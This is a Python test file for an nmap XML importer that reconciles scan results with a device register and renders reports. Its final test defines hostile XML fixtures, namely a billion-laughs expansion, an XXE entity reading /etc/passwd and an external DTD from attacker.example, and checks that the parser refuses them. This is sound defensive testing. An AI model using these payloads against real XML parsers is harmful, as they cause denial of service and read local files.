"""nmap XML reports: parsing (defusedxml, hostile XML refused), reconciliation with the register,
and the three output formats."""

from __future__ import annotations

import json
import time
from typing import Any

import pytest

from iotpolicy.importers.nmap import OpenPort, ScanError, parse_scan
from iotpolicy.importers.reconcile import Discrepancy, declared, insecure_names, reconcile
from iotpolicy.importers.reconcile_report import render
from iotpolicy.models import Device, Segment
from tests.support.realworld import REALWORLD, field_files

SCAN = REALWORLD / "scan-2026-11-20.xml"


def _register() -> tuple[list[Device], list[Segment]]:
    files = field_files()
    devices = [Device.model_validate(v) for k, v in files.items() if k.startswith("devices/")]
    segments = [Segment.model_validate(v) for k, v in files.items() if k.startswith("segments/")]
    return devices, segments


def _result() -> Any:
    devices, segments = _register()
    return reconcile(
        parse_scan(SCAN.read_bytes(), "scan.xml"), devices, segments, source="scan.xml"
    )


def test_parse_the_scan() -> None:
    scan = parse_scan(SCAN.read_bytes())
    assert scan.scanner == "nmap 7.94"
    assert scan.started == "2026-11-20T09:14:03Z"
    assert scan.targets == ("10.20.1.0/24", "10.30.1.0/24")
    assert len(scan.hosts) == 14  # the host reported down is left out
    first = scan.hosts[0]
    assert (first.ip, first.mac, first.mac_vendor, first.hostname) == (
        "10.20.1.5",
        "00:1D:9C:00:00:05",
        "Rockwell Automation",
        "line1-sw.acme.internal",
    )
    # HTTP over TLS is https; open|filtered ports are not open
    assert [p.label for p in first.ports] == ["22/tcp ssh", "443/tcp https"]
    assert first.ports[0].product == "OpenSSH 8.4"


def test_reconcile_finds_what_needs_attention() -> None:
    result = _result()
    got = [(i.kind.value, i.device, i.ip, i.port) for i in result.items]
    assert got == [
        ("shadow-host", None, "10.20.1.5", None),
        ("shadow-host", None, "10.20.1.77", None),
        ("shadow-host", None, "10.30.1.40", None),
        ("not-seen", "plc-04", "10.20.1.13", None),
        ("mac-mismatch", "plc-02", "10.20.1.11", None),
        ("ip-mismatch", "cam-02", "10.20.1.50", None),
        ("wrong-segment", "cam-02", "10.20.1.50", None),
        ("inactive-seen", "cam-old", "10.30.1.29", None),
        ("insecure-service", "plc-02", "10.20.1.11", "80/tcp"),
        ("insecure-service", "gw-01", "10.20.1.20", "23/tcp"),
        ("insecure-service", None, "10.20.1.77", "21/tcp"),
        ("insecure-service", "cam-03", "10.30.1.23", "161/udp"),
        ("insecure-service", "cam-old", "10.30.1.29", "80/tcp"),
        ("insecure-service", None, "10.30.1.40", "80/tcp"),
        ("undeclared-port", "cam-03", "10.30.1.23", "554/tcp"),
    ]
    assert result.needs_attention
    # dce-01 sits in mgmt, which the scan did not cover: never "not seen"
    assert "dce-01" not in {i.device for i in result.items}
    assert ("plc-01", "10.20.1.10") in result.matched
    telnet = next(i for i in result.items if i.port == "23/tcp")
    assert telnet.message == "gw-01: 23/tcp telnet is open (insecure: telnet; not declared either)"
    mismatch = next(i for i in result.items if i.kind is Discrepancy.MAC_MISMATCH)
    assert "registered for plc-02 with MAC 00:1B:1B:12:34:57" in mismatch.message
    assert "00:1B:1B:AA:BB:CC" in mismatch.message


def test_a_scan_that_matches_the_register_needs_nothing() -> None:
    devices, segments = _register()
    plc = next(d for d in devices if d.id == "plc-01")
    xml = """<?xml version="1.0"?>
<nmaprun scanner="nmap" args="nmap -oX - 10.20.1.10" version="7.94">
<host><status state="up"/><address addr="10.20.1.10" addrtype="ipv4"/>
<address addr="00:1b:1b:12:34:56" addrtype="mac"/>
<ports><port protocol="tcp" portid="102"><state state="open"/><service name="iso-tsap"/></port>
</ports></host></nmaprun>"""
    result = reconcile(parse_scan(xml.encode()), [plc], segments)
    assert result.items == ()
    assert not result.needs_attention
    assert "Nothing needs attention" in render(result, "text")
    assert result.scope == ("10.20.1.10/32",)


def test_without_targets_the_scope_is_the_segments_seen() -> None:
    devices, segments = _register()
    xml = """<nmaprun scanner="nmap" args="nmap -iL hosts.txt -oX scan.xml">
<host><status state="up"/><address addr="10.10.0.99" addrtype="ipv4"/></host></nmaprun>"""
    result = reconcile(parse_scan(xml.encode()), devices, segments)
    assert result.scope == ("10.10.0.0/24",)
    assert [(i.kind.value, i.device or i.ip) for i in result.items] == [
        ("shadow-host", "10.10.0.99"),
        ("not-seen", "dce-01"),
    ]


def test_insecure_names_and_declared_services() -> None:
    insecure = ("telnet", "http", "snmpv1", "snmpv2c", "smbv1", "rlogin")
    assert insecure_names(OpenPort(23, "tcp", "telnet"), insecure) == ("telnet",)
    assert insecure_names(OpenPort(23, "tcp", None), insecure) == ("telnet",)  # port, no name
    assert insecure_names(OpenPort(8023, "tcp", "telnet"), insecure) == ("telnet",)
    assert insecure_names(OpenPort(80, "tcp", "rtsp"), insecure) == ()  # the name wins
    assert insecure_names(OpenPort(443, "tcp", "https"), insecure) == ()
    assert insecure_names(OpenPort(161, "udp", "snmp"), insecure) == ("snmpv1", "snmpv2c")
    assert insecure_names(OpenPort(445, "tcp", "microsoft-ds"), insecure) == ()
    assert insecure_names(OpenPort(513, "tcp", "rlogin"), insecure) == ("rlogin",)
    assert insecure_names(OpenPort(23, "tcp", "telnet"), ("ftp",)) == ()
    devices, _ = _register()
    plc = next(d for d in devices if d.id == "plc-01")
    assert declared(OpenPort(102, "tcp", "iso-tsap"), plc)
    assert not declared(OpenPort(102, "udp", None), plc)
    assert not declared(OpenPort(4840, "tcp", "opc-ua"), plc)


@pytest.mark.parametrize("fmt", ["text", "json", "markdown"])
def test_formats(fmt: str) -> None:
    result = _result()
    output = render(result, fmt)
    assert output == render(_result(), fmt)  # deterministic
    if fmt == "json":
        document = json.loads(output)
        assert document["summary"]["total"] == 15
        assert document["summary"]["shadow-host"] == 3
        assert document["scan"]["scope"] == ["10.20.1.0/24", "10.30.1.0/24"]
        assert document["items"][0]["controls"] == ["NIST CM-8", "IEC 62443-3-3 SR 7.8"]
    elif fmt == "markdown":
        assert output.startswith("# Network scan reconciliation\n")
        assert "| Hosts on the network that no device record has | 3 |" in output
        assert "## Open ports not among the declared services (CM-7 drift)" in output
    else:
        assert "gw-01: 23/tcp telnet is open" in output
        assert output.endswith("15 items need attention\n")


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE nmaprun [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<nmaprun scanner="nmap" args="&lol9;"></nmaprun>
"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE nmaprun [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<nmaprun scanner="nmap"><host><hostnames><hostname name="&xxe;"/></hostnames></host></nmaprun>
"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE nmaprun SYSTEM "http://attacker.example/evil.dtd">
<nmaprun scanner="nmap"></nmaprun>
"""


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (BILLION_LAUGHS, "refused: the XML declares a DTD or entities"),
        (EXTERNAL_ENTITY, "refused: the XML declares a DTD or entities"),
        (EXTERNAL_DTD, "refused: the XML declares a DTD or entities"),
        (b"<nmaprun><host>", "not an nmap XML report (invalid XML at line 1)"),
        (b"", "not an nmap XML report (invalid XML"),
        (b'<?xml version="1.0"?><svg></svg>', "the root element is <svg>, not <nmaprun>"),
        (b"<nmaprun>&undefined;</nmaprun>", "invalid XML"),
    ],
)
def test_hostile_or_foreign_xml_is_one_clear_error(content: bytes, message: str) -> None:
    start = time.perf_counter()
    with pytest.raises(ScanError) as caught:
        parse_scan(content, "scan.xml")
    assert time.perf_counter() - start < 2
    assert str(caught.value).startswith("scan.xml: ")
    assert message in str(caught.value)
    assert "passwd" not in str(caught.value)
